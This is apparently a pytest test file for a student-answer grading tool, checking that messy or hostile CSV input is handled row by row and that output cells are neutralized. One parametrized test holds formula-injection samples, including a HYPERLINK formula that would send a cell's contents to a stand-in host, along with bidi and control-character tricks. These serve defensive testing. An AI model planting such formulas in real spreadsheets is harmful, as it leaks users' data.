"""``tutor grade`` under hostile or messy files: every input row gets an output row with a
status, the file is read as Excel writes it, cells are safe to open in a spreadsheet and
bounded, and the summary and exit code say how many rows were not checked (issue 19,
items 5, 7, 8 and 15)."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tutor.checking import csvfiles
from tutor.checking.check import MAX_ECHO, _InOrder, check_expected, grade_csv
from tutor.cli.main import main

SHEET = '[[problem]]\nkind = "system"\nequations = ["3x = 6"]\n'


def _grade(tmp_path: Path, data: bytes) -> list[dict[str, str]]:
    (tmp_path / "s.toml").write_text(SHEET)
    (tmp_path / "a.csv").write_bytes(data)
    grade_csv(tmp_path / "a.csv", tmp_path / "s.toml", tmp_path / "g.csv", jobs=1)
    with (tmp_path / "g.csv").open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_one_bad_problem_cell_costs_only_its_row(tmp_path):
    rows = _grade(tmp_path, "student,problem,answer\na,²,x = 2\nb,①,x = 2\nc,{},x = 2\nd,1,x = 2\n"
                  .format("9" * 4300).encode())
    assert [r["status"] for r in rows] == ["unreadable"] * 3 + ["correct"]
    assert "no problem" in rows[2]["feedback"] and len(rows[2]["problem"]) < 60


def test_excel_s_csv_utf8_with_a_byte_order_mark(tmp_path):
    rows = _grade(tmp_path, b"\xef\xbb\xbfstudent,problem,answer\r\nada,1,x = 2\r\n")
    assert [(r["student"], r["status"]) for r in rows] == [("ada", "correct")]


def test_semicolons_and_header_case_as_excel_writes_them(tmp_path):
    rows = _grade(tmp_path, b"Student; Problem ;Answer\r\nada;1;x = 2\r\nbob;1;x = 3\r\n")
    assert [r["correct"] for r in rows] == ["yes", "no"]


def test_a_huge_cell_an_invalid_byte_and_a_nul_cost_only_their_rows(tmp_path):
    data = (b"student,problem,answer\nbig,1," + b"x" * 200_000 + b"\nbad,1,x = 2\xff\n"
            b"nul,1,x = \x002\nok,1,x = 2\n")
    rows = _grade(tmp_path, data)
    assert [r["status"] for r in rows] == ["unreadable"] * 3 + ["correct"]
    assert "too long" in rows[0]["feedback"] and len(rows[0]["answer"]) < 5000
    assert "not valid UTF-8" in rows[1]["feedback"] and rows[1]["answer"] == "x = 2\ufffd"
    assert rows[2]["answer"] == "x = \\u00002"


@pytest.mark.parametrize("answer", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2",
                                    "@SUM(A1:A9)", "\tx = 2", "'quoted", "=1+1"])
def test_formulas_are_neutralized_and_the_raw_answer_recoverable(tmp_path, answer):
    rows = _grade(tmp_path, _csv_bytes([["s", "1", answer]]))
    cell = rows[0]["answer"]
    assert cell.startswith("'") and cell[1:] == csvfiles.visible(answer)
    assert not any(rows[0][c].startswith(("=", "+", "-", "@")) for c in rows[0])


def test_control_and_bidi_characters_are_made_visible(tmp_path):
    rows = _grade(tmp_path, _csv_bytes([["e\u202evil", "1", "x = \u202e2\x1b[31m"]]))
    row = rows[0]
    assert row["student"] == "e\\u202evil" and "\\u202e" in row["answer"] and "\\u001b" in row["answer"]
    assert not any(ch in "".join(row.values()) for ch in "\u202e\x1b")


def test_echoes_are_capped(tmp_path):
    answer = "x = " + "+".join(["1"] * 1500) + " + 2 - 1500"
    rows = _grade(tmp_path, _csv_bytes([["s", "1", answer]]))
    assert rows[0]["status"] == "correct"
    assert len(rows[0]["parsed"]) <= MAX_ECHO + 40 and len(rows[0]["feedback"]) <= MAX_ECHO + 40


def test_rows_are_written_in_order_as_soon_as_their_turn_comes():
    written = []
    ordered = _InOrder(lambda row, number, verdict: written.append(row))
    ordered.put(1, "b", None, None)
    ordered.put(2, "c", None, None)
    assert written == [] and len(ordered.waiting) == 2
    ordered.put(0, "a", None, None)
    assert written == ["a", "b", "c"] and not ordered.waiting


def test_the_answer_file_is_read_lazily(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("student,problem,answer\n" + "s,1,x = 2\n" * 50_000)
    with csvfiles.answer_rows(path) as rows:
        next(rows)
        assert rows.gi_frame.f_locals["reader"].line_num < 10_000


def test_the_output_may_not_be_the_input(tmp_path, capsys):
    (tmp_path / "s.toml").write_text(SHEET)
    answers = tmp_path / "a.csv"
    answers.write_text("student,problem,answer\nada,1,x = 2\n")
    for out in (answers, tmp_path / "." / "a.csv"):
        assert main(["grade", str(answers), "--sheet", str(tmp_path / "s.toml"), "-o", str(out)]) == 2
    assert "is the answer file itself" in capsys.readouterr().err
    assert answers.read_text() == "student,problem,answer\nada,1,x = 2\n"


def test_messages_say_what_happened():
    assert check_expected(None, "x").feedback == ["the expected answer must be text, not NoneType"]
    assert "too long" in check_expected("x" * 5000, "x").feedback[0]
    assert "expected answer" in check_expected("x" * 5000, "x").feedback[0]


def _csv_bytes(rows: list[list[str]]) -> bytes:
    import io
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["student", "problem", "answer"])
    writer.writerows(rows)
    return buffer.getvalue().encode()
